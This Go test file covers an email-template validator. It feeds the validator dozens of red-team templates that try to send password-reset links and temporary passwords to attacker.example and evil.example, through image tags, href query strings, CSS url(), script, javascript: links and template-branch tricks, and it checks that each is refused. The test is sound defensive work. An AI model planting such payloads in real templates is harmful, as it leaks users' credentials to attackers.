package template

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// ruleCase is a template and what Validate must say of it: field "" when it
// is accepted, else the field at fault and substrings of the message.
type ruleCase struct {
	name  string
	kind  Kind
	src   Source
	field string
	msg   []string
}

// htmlPart, textPart and subjectPart make a Source whose other parts are
// harmless.
func htmlPart(s string) Source    { return Source{Subject: "Hello", HTML: s, Text: "Hi"} }
func textPart(s string) Source    { return Source{Subject: "Hello", HTML: "<p>Hi</p>", Text: s} }
func subjectPart(s string) Source { return Source{Subject: s, HTML: "<p>Hi</p>", Text: "Hi"} }

// secretCases are the red team's attacks on the secrets, their variations,
// and the places secrets may stand.
func secretCases() []ruleCase {
	const (
		inv  = Invitation
		rst  = PasswordReset
		tmp  = TemporaryPassword
		chg  = EmailChanged
		html = "html"
		text = "text"
		subj = "subject"
	)
	return []ruleCase{
		// The attacks as reported.
		{"image carries the link", rst, htmlPart(`<img src="https://attacker.example/p.gif?u={{.ActionURL}}">`), html, []string{"<img> is not allowed", "line 1"}},
		{"image carries the password", tmp, htmlPart(`<img src="https://attacker.example/p.gif?u={{.TemporaryPassword}}">`), html, []string{"<img>"}},
		{"link to the attacker carries the link", rst, htmlPart(`<a href="https://attacker.example/?u={{.ActionURL}}">x</a>`), html, []string{"whole, quoted value of href"}},
		{"link to the attacker carries the password", tmp, htmlPart(`<a href="https://attacker.example/?u={{.TemporaryPassword}}">x</a>`), html, []string{"TemporaryPassword", "alone in text", "href of <a>"}},
		{"text after the link in href", rst, htmlPart(`<a href="{{.ActionURL}}x">x</a>`), html, []string{"nothing may follow it"}},
		{"query after the link in href", rst, htmlPart(`<a href="{{.ActionURL}}&u=https://attacker.example/">x</a>`), html, []string{"nothing may follow it"}},
		{"link in the subject", rst, subjectPart(`Reset: {{.ActionURL}}`), subj, []string{"ActionURL", "subject"}},
		{"password in the subject", tmp, subjectPart(`Password {{.TemporaryPassword}}`), subj, []string{"TemporaryPassword", "subject"}},
		{"password tested in the subject", tmp, subjectPart(`{{if .TemporaryPassword}}x{{end}}`), subj, []string{"subject"}},
		{"password in a subject variable", tmp, subjectPart(`{{$p := .TemporaryPassword}}x`), subj, []string{"subject"}},
		{"link in CSS url", rst, htmlPart(`<p style="background:url({{.ActionURL}})">x</p>`), html, []string{`"url("`}},
		{"link in CSS without url", rst, htmlPart(`<p style="color:{{.ActionURL}}">x</p>`), html, []string{"ActionURL", "style"}},
		{"link in a script", rst, htmlPart(`<script>var u = "{{.ActionURL}}";</script>`), html, []string{"<script> is not allowed"}},
		{"link in a title attribute", rst, htmlPart(`<p title="{{.ActionURL}}">x</p>`), html, []string{"title of <p>"}},
		{"password in a title attribute", tmp, htmlPart(`<p title="{{.TemporaryPassword}}">x</p>`), html, []string{"alone in text"}},
		{"password in an alt attribute", tmp, htmlPart(`<p><span alt="{{.TemporaryPassword}}">x</span></p>`), html, []string{"alone in text"}},
		{"image in one branch only", rst, htmlPart(`{{if .FirstName}}<img src={{.ActionURL}}>{{else}}<p>{{.ActionURL}}</p>{{end}}`), html, []string{"<img>"}},
		{"secret attribute in one branch only", rst, htmlPart(`{{if .FirstName}}<p title="{{.ActionURL}}">{{else}}<p>{{end}}x</p>`), html, []string{"title of <p>"}},
		{"secret attribute in the else branch only", rst, htmlPart(`{{if .FirstName}}<p>{{else}}<p title="{{.ActionURL}}">{{end}}x</p>`), html, []string{"title of <p>"}},
		{"secret attribute after else if", rst, htmlPart(`{{if .FirstName}}<p>{{else if .LastName}}<p>{{else}}<p title="{{.ActionURL}}">{{end}}x</p>`), html, []string{"title of <p>"}},
		{"secret attribute in a branch no sample takes", rst, htmlPart(`{{if eq .Email "owner@example.com"}}<p title="{{.ActionURL}}">x</p>{{end}}`), html, []string{"title of <p>"}},
		{"secret in a branch opened inside the tag", rst, htmlPart(`<p {{if .FirstName}}title="{{.ActionURL}}"{{end}}>x</p>`), html, []string{"title of <p>"}},
		{"unquoted href", rst, htmlPart(`<a href={{.ActionURL}}>x</a>`), html, []string{"whole, quoted value"}},
		{"unquoted href after text", rst, htmlPart(`<a href=https://attacker.example/{{.ActionURL}}>x</a>`), html, []string{"whole, quoted value"}},
		{"unquoted title", rst, htmlPart(`<p title={{.ActionURL}}>x</p>`), html, []string{"title of <p>"}},
		{"with takes the link", rst, htmlPart(`{{with .ActionURL}}<a href="{{.}}">x</a>{{end}}`), html, []string{"{{with}} may not take {{.ActionURL}}"}},
		{"with takes the link through and", rst, htmlPart(`{{with and .FirstName .ActionURL}}<p title="{{.}}">x</p>{{end}}`), html, []string{"{{with}}"}},
		{"with declares the link", rst, htmlPart(`{{with $u := .ActionURL}}<p>{{$u}}</p>{{end}}`), html, []string{"{{with}}"}},
		{"variable keeps the link", rst, htmlPart(`{{$u := .ActionURL}}<p title="{{$u}}">x</p>`), html, []string{"variable"}},
		{"variable assigned the password", tmp, textPart(`{{$p := ""}}{{$p = .TemporaryPassword}}x`), text, []string{"variable"}},
		{"if declares the link", rst, htmlPart(`{{if $u := .ActionURL}}<p>{{$u}}</p>{{end}}`), html, []string{"test whether it is set"}},
		{"link through len", rst, textPart(`{{.ActionURL | len}}`), text, []string{"on its own"}},
		{"link through and", rst, htmlPart(`<p title="{{and .FirstName .ActionURL}}">x</p>`), html, []string{"on its own"}},
		{"password through or", tmp, htmlPart(`<p title="{{or .TemporaryPassword "x"}}">x</p>`), html, []string{"on its own"}},
		{"link in parentheses", rst, textPart(`{{(.ActionURL)}}`), text, []string{"on its own"}},
		{"password compared", tmp, htmlPart(`{{if eq .TemporaryPassword "hunter2"}}<a href="https://attacker.example/yes">x</a>{{end}}`), html, []string{"test whether it is set"}},
		{"password measured", tmp, textPart(`{{if eq (len .TemporaryPassword) 24}}x{{end}}`), text, []string{"test whether it is set"}},
		{"password compared inside and", tmp, textPart(`{{if and .FirstName (ne .TemporaryPassword "x")}}x{{end}}`), text, []string{"test whether it is set"}},
		{"text body glued to a URL", rst, textPart(`https://evil.example/?u={{.ActionURL}}`), text, []string{"must stand alone"}},
		{"text body glued to a URL with the password", tmp, textPart(`https://evil.example/?p={{.TemporaryPassword}}`), text, []string{"must stand alone"}},
		{"glued through an empty branch", rst, htmlPart(`https://evil.example/?u={{if .FirstName}}{{end}}{{.ActionURL}}`), html, []string{"must stand alone"}},
		{"glued through an empty branch in text", rst, textPart(`https://evil.example/?u={{if .FirstName}}{{end}}{{.ActionURL}}`), text, []string{"must stand alone"}},
		{"glued in one branch", rst, textPart(`{{if .FirstName}}https://evil.example/?u={{else}}Link: {{end}}{{.ActionURL}}`), text, []string{"must stand alone"}},
		{"glued in the else branch", rst, textPart(`{{if .FirstName}}Link: {{else}}https://evil.example/?u={{end}}{{.ActionURL}}`), text, []string{"must stand alone"}},
		{"glued to a value", rst, textPart(`{{.OrganizationName}}{{.ActionURL}}`), text, []string{"must stand alone"}},
		{"glued through a comment", rst, textPart(`https://evil.example/?u={{/* hi */}}{{.ActionURL}}`), text, []string{"must stand alone"}},
		{"glued through an HTML comment", rst, htmlPart(`<p>https://evil.example/?u=<!-- x -->{{.ActionURL}}</p>`), html, []string{"must stand alone"}},
		{"glued through an inline tag", rst, htmlPart(`<p>https://evil.example/?u=<span>{{.ActionURL}}</span></p>`), html, []string{"must stand alone"}},
		{"glued through a closed inline tag", rst, htmlPart(`<p><b>https://evil.example/?u=</b>{{.ActionURL}}</p>`), html, []string{"must stand alone"}},
		{"glued through a link", rst, htmlPart(`<p>https://evil.example/?u=<a href="https://example.com/">{{.ActionURL}}</a></p>`), html, []string{"must stand alone"}},
		{"glued through an entity", rst, htmlPart(`<p>https://evil.example/?u=&#32;{{.ActionURL}}</p>`), html, []string{"must stand alone"}},
		{"glued through nbsp", tmp, htmlPart(`<p>Password:&nbsp;{{.TemporaryPassword}}</p>`), html, []string{"must stand alone"}},
		{"glued after a colon", tmp, textPart(`Password:{{.TemporaryPassword}}`), text, []string{"must stand alone"}},
		{"value glued after the link", rst, textPart(`{{.ActionURL}}{{.FirstName}}`), text, []string{"must be followed by"}},
		{"text glued after the link", rst, textPart(`{{.ActionURL}}x`), text, []string{"must be followed by"}},
		{"text glued after the link in a branch", rst, htmlPart(`<p>{{.ActionURL}}{{if .FirstName}}x{{end}}</p>`), html, []string{"must be followed by"}},
		{"link in a title element", rst, htmlPart(`<title>{{.ActionURL}}</title>`), html, []string{"inside <title>"}},
		{"password in a style element", tmp, htmlPart(`<style>{{.TemporaryPassword}}</style>`), html, []string{"inside <style>"}},
		{"link in an HTML comment", rst, htmlPart(`<!-- {{.ActionURL}} -->`), html, []string{"comment"}},
		{"password in href", tmp, htmlPart(`<a href="{{.TemporaryPassword}}">x</a>`), html, []string{"alone in text"}},
		{"link twice in href", rst, htmlPart(`<a href="{{.ActionURL}}{{.ActionURL}}">x</a>`), html, []string{"nothing may follow it"}},
		{"branch before the link in href", rst, htmlPart(`<a href="{{if .FirstName}}https://evil.example/?u={{end}}{{.ActionURL}}">x</a>`), html, []string{"whole, quoted value"}},
		{"branch after the link in href", rst, htmlPart(`<a href="{{.ActionURL}}{{if .FirstName}}x{{end}}">x</a>`), html, []string{"nothing may follow it"}},
		{"link in href of another element", rst, htmlPart(`<p href="{{.ActionURL}}">x</p>`), html, []string{"href is only allowed on <a>"}},
		{"link as a tag name", rst, htmlPart(`<{{.ActionURL}}>`), html, []string{"part of a tag"}},
		{"link as an attribute", rst, htmlPart(`<p {{.ActionURL}}>x</p>`), html, []string{"part of a tag"}},
		{"link in EMAIL_CHANGED", chg, textPart(`{{.ActionURL}}`), text, []string{`"ActionURL" is not available in EMAIL_CHANGED`}},
		{"password in EMAIL_CHANGED", chg, textPart(`{{.TemporaryPassword}}`), text, []string{"not available"}},
		{"password in an invitation", inv, htmlPart(`<p>{{.TemporaryPassword}}</p>`), html, []string{"not available"}},
		{"base before the link", rst, htmlPart(`<base href="https://evil.example/"><a href="{{.ActionURL}}">x</a>`), html, []string{"<base> is not allowed"}},
		{"ping on the link", rst, htmlPart(`<a href="{{.ActionURL}}" ping="https://evil.example/">x</a>`), html, []string{"ping is not allowed"}},
		{"two hrefs", rst, htmlPart(`<a href="https://evil.example/" href="{{.ActionURL}}">x</a>`), html, []string{"appears twice"}},
		{"link inside a title element's link", rst, htmlPart(`<title><a href="{{.ActionURL}}">x</a></title>`), html, []string{"inside <title>"}},
		{"value completes </title>", inv, htmlPart(`<title></ti{{.FirstName}}tle><img src="https://evil.example/p.gif"></title>`), html, []string{"may not follow \"<\" inside <title>"}},
		{"value after < in a title", inv, htmlPart(`<title><{{.FirstName}}</title>`), html, []string{"inside <title>"}},
		{"tag name split by a branch", rst, htmlPart(`{{if .FirstName}}<{{else}}<{{end}}img src="https://evil.example/{{.ActionURL}}">`), html, []string{"<img>"}},
		{"tag hidden from html/template by a comment", rst, htmlPart(`<<!-- -->img src="https://evil.example/p.gif">`), html, []string{`"<" must start a tag`}},
		{"tag made with a value", inv, htmlPart(`<{{.FirstName}} src="https://evil.example/p.gif">`), html, []string{`after "<"`}},
		{"end tag made with a value", inv, htmlPart(`<p></{{.FirstName}}>`), html, []string{`after "<"`}},

		// Where secrets may stand.
		{"link in href", rst, htmlPart(`<a href="{{.ActionURL}}">Accept</a>`), "", nil},
		{"link in href, single quotes", rst, htmlPart(`<a href='{{.ActionURL}}'>Accept</a>`), "", nil},
		{"link in href, capitals", rst, htmlPart(`<A HREF="{{.ActionURL}}" Target="_blank">Accept</A>`), "", nil},
		{"link in href with $", rst, htmlPart(`{{with .FirstName}}<a href="{{$.ActionURL}}">{{.}}</a>{{end}}`), "", nil},
		{"link in href among attributes", rst, htmlPart(`<a class="btn" href="{{.ActionURL}}" style="color:#fff" target="_blank" rel="noopener">Accept</a>`), "", nil},
		{"link in href or a fixed link", rst, htmlPart(`<a href="{{if .FirstName}}{{.ActionURL}}{{else}}https://example.com/{{end}}">x</a>`), "", nil},
		{"link in text", rst, textPart(`Your link: {{.ActionURL}}`), "", nil},
		{"link alone on a line", rst, textPart("Open this link:\n\n{{.ActionURL}}\n"), "", nil},
		{"link at the start", rst, textPart(`{{.ActionURL}}`), "", nil},
		{"link before punctuation", rst, textPart(`Open {{.ActionURL}}.`), "", nil},
		{"link after a parenthesis and a space", rst, textPart(`Open the link ( {{.ActionURL}}) now`), "", nil},
		{"link in HTML text", rst, htmlPart(`<p>Your link: {{.ActionURL}}</p>`), "", nil},
		{"link as a link's text", rst, htmlPart(`<p><a href="{{.ActionURL}}">{{.ActionURL}}</a></p>`), "", nil},
		{"link after a line break", rst, htmlPart(`<p>Link:<br>{{.ActionURL}}</p>`), "", nil},
		{"link after a closed paragraph", rst, htmlPart(`<p>https://example.com/?u=</p>{{.ActionURL}}`), "", nil},
		{"link after a branch ending in a space", rst, textPart(`{{if .FirstName}}Hi {{.FirstName}}, {{end}}{{.ActionURL}}`), "", nil},
		{"link tested", rst, htmlPart(`{{if .ActionURL}}<p>{{.ActionURL}}</p>{{end}}`), "", nil},
		{"link tested through and and not", rst, textPart(`{{if and .FirstName (not .ActionURL)}}x{{end}}`), "", nil},
		{"password in a paragraph", tmp, htmlPart(`<p>{{.TemporaryPassword}}</p>`), "", nil},
		{"password in code", tmp, htmlPart(`<p>Password: <code>{{.TemporaryPassword}}</code></p>`), "", nil},
		{"password in a cell", tmp, htmlPart(`<table><tr><td>{{.TemporaryPassword}}</td></tr></table>`), "", nil},
		{"password in pre", tmp, htmlPart(`<pre>{{.TemporaryPassword}}</pre>`), "", nil},
		{"password in text", tmp, textPart("Temporary password:  {{.TemporaryPassword}}\n"), "", nil},
	}
}

// markupCases are the allow-list of elements and attributes, CSS and the
// shape of the HTML.
func markupCases() []ruleCase {
	const (
		inv  = Invitation
		html = "html"
	)
	refused := func(name, body string, msg ...string) ruleCase {
		return ruleCase{name, inv, htmlPart(body), html, msg}
	}
	accepted := func(name, body string) ruleCase {
		return ruleCase{name, inv, htmlPart(body), "", nil}
	}
	return []ruleCase{
		refused("img", `<img src="https://example.com/logo.png" alt="">`, "<img>"),
		refused("image", `<image src="https://example.com/logo.png">`, "<image>"),
		refused("picture", `<picture><source srcset="https://example.com/a.png"></picture>`, "<picture>"),
		refused("video", `<video poster="https://example.com/a.png"></video>`, "<video>"),
		refused("audio", `<audio src="https://example.com/a.mp3"></audio>`, "<audio>"),
		refused("svg", `<svg><image href="https://example.com/a.png"/></svg>`, "<svg>"),
		refused("math", `<math><mi>x</mi></math>`, "<math>"),
		refused("iframe", `<iframe src="https://example.com/"></iframe>`, "<iframe>"),
		refused("object", `<object data="https://example.com/a.swf"></object>`, "<object>"),
		refused("embed", `<embed src="https://example.com/a.swf">`, "<embed>"),
		refused("link", `<link rel="stylesheet" href="https://example.com/a.css">`, "<link>"),
		refused("form", `<form action="https://example.com/"><button>Go</button></form>`, "<form>"),
		refused("script", `<script>alert(1)</script>`, "<script>"),
		refused("textarea", `<textarea>x</textarea>`, "<textarea>"),
		refused("unknown element", `<marquee>x</marquee>`, "<marquee> is not allowed"),
		refused("namespaced element", `<v:rect fill="true"></v:rect>`, `<v> is not allowed`),
		refused("meta refresh", `<meta http-equiv="refresh" content="0;url=https://example.com/">`, "<meta http-equiv>"),
		refused("src on an allowed element", `<p src="https://example.com/a.png">x</p>`, "src is not allowed"),
		refused("srcset", `<div srcset="https://example.com/a.png 1x">x</div>`, "srcset"),
		refused("background", `<table background="https://example.com/a.png"><tr><td>x</td></tr></table>`, "background"),
		refused("background on body", `<body background="https://example.com/a.png">x</body>`, "background"),
		refused("data", `<div data="https://example.com/a">x</div>`, "data"),
		refused("event handler", `<p onclick="alert(1)">x</p>`, "event handler onclick"),
		refused("event handler in capitals", `<p ONMOUSEOVER="alert(1)">x</p>`, "onmouseover"),
		refused("data attribute", `<p data-x="1">x</p>`, "data-x is not allowed"),
		refused("content on p", `<p content="x">x</p>`, "content is not allowed on <p>"),
		refused("javascript link", `<a href="javascript:alert(1)">x</a>`, "https:, http: or mailto:"),
		refused("data link", `<a href="data:text/html,hi">x</a>`, "https:"),
		refused("relative link", `<a href="/x">x</a>`, "https:"),
		refused("scheme-relative link", `<a href="//evil.example/">x</a>`, "https:"),
		refused("space before the scheme", `<a href=" https://example.com/">x</a>`, "https:"),
		refused("entity in the scheme", `<a href="jav&#x61;script:alert(1)">x</a>`, "https:"),
		refused("empty link", `<a href="">x</a>`, "https:"),
		refused("link without value", `<a href>x</a>`, "https:"),
		refused("value before the scheme", `<a href="{{.ReplyTo}}">x</a>`, "before any value"),
		refused("text after the sign-in page", `<a href="{{.SignInURL}}/x">x</a>`, "{{.SignInURL}} must be the whole value"),
		refused("value after the sign-in page", `<a href="{{.SignInURL}}{{.Email}}">x</a>`, "{{.SignInURL}} must be the whole value"),
		refused("sign-in page after text", `<a href="x{{.SignInURL}}">x</a>`, "before any value"),
		refused("sign-in page unquoted", `<a href={{.SignInURL}}>x</a>`, "quote the value"),
		refused("sign-in page through a pipeline", `<a href="{{.SignInURL | len}}">x</a>`, "before any value"),
		refused("sign-in page as an image", `<img src="{{.SignInURL}}">`, "<img> is not allowed"),
		refused("value inside the scheme", `<a href="http{{.FirstName}}s://example.com/">x</a>`, "before any value"),
		refused("url in style", `<p style="background:url(https://example.com/a.png)">x</p>`, `"url("`),
		refused("url in style, capitals", `<p style="BACKGROUND:URL(https://example.com/a.png)">x</p>`, `"url("`),
		refused("url with spaces", `<p style="background: url ( https://example.com/a.png )">x</p>`, `"url("`),
		refused("url split by a comment", `<p style="background:ur/**/l(https://example.com/a.png)">x</p>`, `"url("`),
		refused("url split by a template comment", `<p style="background:ur{{/* x */}}l(https://example.com/a.png)">x</p>`, `"url("`),
		refused("url escaped", `<p style="background:u\72 l(https://example.com/a.png)">x</p>`, "backslash"),
		refused("url with an entity", `<p style="background:u&#114;l(https://example.com/a.png)">x</p>`, `"&"`),
		refused("image-set", `<style>p{background:image-set("https://example.com/a.png" 1x)}</style>`, `"image-set("`),
		refused("webkit image-set", `<p style="background:-webkit-image-set('a.png' 1x)">x</p>`, `"image-set("`),
		refused("import", `<style>@import "https://example.com/a.css";</style>`, `"@import"`),
		refused("import escaped", `<style>@im\70ort "https://example.com/a.css";</style>`, "backslash"),
		refused("expression", `<p style="width:expression(alert(1))">x</p>`, `"expression("`),
		refused("binding", `<p style="-moz-binding:x">x</p>`, "-moz-binding"),
		refused("behavior", `<p style="behavior:x">x</p>`, "behavior:"),
		refused("font-face", `<style>@font-face{font-family:x;src:url(https://example.com/f.woff)}</style>`, `"url("`),
		refused("url in a style element", `<style>body{background:url(https://example.com/a.png)}</style>`, `"url("`),
		refused("value in a style attribute", `<p style="color:{{.FirstName}}">x</p>`, "style attribute"),
		refused("value in a style element", `<style>p{color:{{.FirstName}}}</style>`, "inside <style>"),
		refused("unquoted style", `<p style=background:url(https://example.com/a.png)>x</p>`, `"url("`),
		refused("conditional comment", `<!--[if mso]><v:rect></v:rect><![endif]-->`, "conditional comments"),
		refused("conditional comment after a space", `<!-- [if mso]>x<![endif]-->`, "conditional comments"),
		refused("downlevel-revealed comment", `<![if !mso]><p>x</p><![endif]>`, `"<!"`),
		refused("cdata", `<![CDATA[x]]>`, `"<!"`),
		refused("processing instruction", `<?xml version="1.0"?><p>x</p>`, `"<" must start a tag`),
		refused("bare <", `<p>1 < 2</p>`, `"<" must start a tag`),
		refused("</ and a space", `<p>x</ p>`, `"</" must start an end tag`),
		refused("no space between attributes", `<a href="https://example.com/"title="x">x</a>`, "put a space"),
		refused("slash in a tag", `<a/href="https://example.com/">x</a>`, `"/"`),
		refused("odd attribute name", `<p "x"="y">x</p>`, "unexpected"),
		refused("quote in an unquoted value", `<p title=a"b>x</p>`, "unquoted"),
		refused("equals without value", `<p title=>x</p>`, "no value"),
		refused("attributes on an end tag", `<p>x</p class="a">`, "end tag"),
		refused("value in a tag", `<p {{.FirstName}}>x</p>`, "only in text and in quoted attribute values"),
		refused("value in an unquoted attribute", `<p title={{.FirstName}}>x</p>`, "quote the value"),
		refused("value in a comment", `<!-- {{.FirstName}} -->`, "comment"),
		refused("value in a doctype", `<!DOCTYPE {{.FirstName}}>`, "<!DOCTYPE"),
		refused("ends in a tag", `<p class="x"`, "ends inside the tag <p>"),
		refused("ends in a value", `<p class="x>y</p>`, "ends inside the value"),
		refused("ends in a comment", `<p>x</p><!-- x`, "ends inside a comment"),
		refused("ends in a style element", `<style>p{}`, "ends inside <style>"),
		refused("ends after <", `<p>x<`, `ends after "<"`),
		refused("branches in different places in href", `<a href="`+strings.Repeat("{{if .FirstName}}x{{end}}", 0)+
			`{{if .FirstName}}a{{end}}{{if .LastName}}b{{end}}{{if .Email}}c{{end}}{{if .Username}}d{{end}}`+
			`{{if .RoleName}}e{{end}}{{if .ReplyTo}}f{{end}}{{if .ExpiresAt}}g{{end}}https://example.com/">x</a>`, "too many different ways"),
		refused("long name", `<p `+strings.Repeat("a", 40)+`="x">y</p>`, "too long"),

		accepted("meta, style and entities", `<!DOCTYPE html>
<html lang="en" dir="ltr"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width">
<title>Hi {{.FirstName}} &amp; co</title>
<style type="text/css" media="screen">/* note */ body { color: #111; font-family: Arial, sans-serif; } a:hover { color: red; }</style>
</head><body bgcolor="#ffffff" style="margin:0"><center><table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0">
<tr><td align="center" valign="top" colspan="2" nowrap>1 &lt; 2</td><th rowspan=2 aria-label="x">h</th></tr></table>
<font face="Arial" size="2" color="#333">x</font><h1>T</h1><ul><li>a</li></ul><ol start="2" type="a"><li>b</li></ol>
<blockquote>q</blockquote><pre>p</pre><hr/><br /><p><strong>b</strong><b>b</b><em>e</em><i>i</i><u>u</u><s>s</s><small>s</small><sup>1</sup><sub>2</sub></p>
<!-- a comment --><div class="a" id="b" title="{{.OrganizationName}}" lang="en">x</div></center></body></html>`),
		accepted("doctype xhtml", `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd"><p>x</p>`),
		accepted("links", `<a href="https://example.com/?a=1&amp;b={{.Email}}">x</a> <a href="HTTP://example.com/">y</a> <a href="mailto:{{.ReplyTo}}?subject=Hi">z</a>`),
		accepted("unquoted static values", `<table width=100% border=0><tr><td align=center bgcolor=#fff>x</td></tr></table><a href=https://example.com/>x</a>`),
		accepted("attributes in a branch", `<p {{if .FirstName}}class="a"{{else}}class="b" title="c"{{end}}>x</p>`),
		accepted("branch in a tag name", `<p{{if .FirstName}} class="a"{{end}}>x</p>`),
		accepted("branch in a value", `<p title="{{if .FirstName}}{{.FirstName}}{{else}}friend{{end}}">x</p>`),
		accepted("branch in a link", `<a href="{{if .ReplyTo}}mailto:{{.ReplyTo}}{{else}}https://example.com/{{end}}">x</a>`),
		accepted("sign-in page as the link", `{{if .SignInURL}}<a href="{{.SignInURL}}">sign in</a> {{.SignInURL}}{{end}} <a href='{{$.SignInURL}}'>x</a>`),
		accepted("sign-in page after a scheme", `<a href="https://example.com/?next={{.SignInURL}}">x</a><p title="{{.SignInURL}}">y</p>`),
		accepted("style with a branch", `<style>{{if .FirstName}}p{color:red}{{else}}p{color:blue}{{end}}</style>`),
		// HTML5 ends a comment at --!>, html/template only at -->: the reader
		// checks what lies between, which html/template drops.
		accepted("comment ended with --!>", `<!-- x --!><p>y</p> -->`),
		accepted("abrupt comments", `<!--><!---><p>y</p>`),
		accepted("empty title with a value", `<title>{{.OrganizationName}}</title><p>x</p>`),
		accepted("title end with spaces", `<title>x</title ><p>y</p>`),
		accepted("less-than in a title", `<title>1 < 2 {{.FirstName}}</title>`),
		accepted("less-than in a value", `<p title="1 < 2">x</p>`),
		accepted("aria", `<div role="note" aria-hidden="true" aria-describedby="x">y</div>`),
	}
}

func TestValidateRules(t *testing.T) {
	t.Parallel()
	cases := append(secretCases(), markupCases()...)
	seen := map[string]bool{}
	for _, c := range cases {
		require.False(t, seen[c.name], "two cases called %q", c.name)
		seen[c.name] = true
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			err := Validate(c.kind, c.src)
			if c.field == "" {
				require.NoError(t, err)
				requireNoLeak(t, c.kind, c.src)
				return
			}
			var fe *FieldError
			require.ErrorAs(t, err, &fe)
			require.Equal(t, c.field, fe.Field, fe.Message)
			require.Regexp(t, `^line \d+: `, fe.Message)
			for _, m := range c.msg {
				require.Contains(t, fe.Message, m)
			}
		})
	}
}

func TestValidateLineNumbers(t *testing.T) {
	t.Parallel()
	cases := []struct {
		src  Source
		line string
	}{
		{htmlPart("<p>a</p>\n<p>b</p>\n<p>c <img src=\"x\"></p>"), "line 3:"},
		{htmlPart("<p>a</p>\n\n<a href=\"https://x/?{{.ActionURL}}\">x</a>"), "line 3:"},
		{textPart("a\nb\nhttps://x/?u={{.ActionURL}}"), "line 3:"},
		{htmlPart("<p>\n{{if .FirstName}}\n<p title=\"{{.ActionURL}}\">{{end}}</p>"), "line 3:"},
		{htmlPart("<p\nstyle=\"a:b;\nbackground:url(x)\">y</p>"), "line 3:"},
		{textPart("a\n{{if eq .FirstName 1}}x{{end}}"), "line 2:"},
	}
	for _, c := range cases {
		err := Validate(PasswordReset, c.src)
		var fe *FieldError
		require.ErrorAs(t, err, &fe, c.src)
		require.True(t, strings.HasPrefix(fe.Message, c.line), "%s: %s", c.line, fe.Message)
	}
}
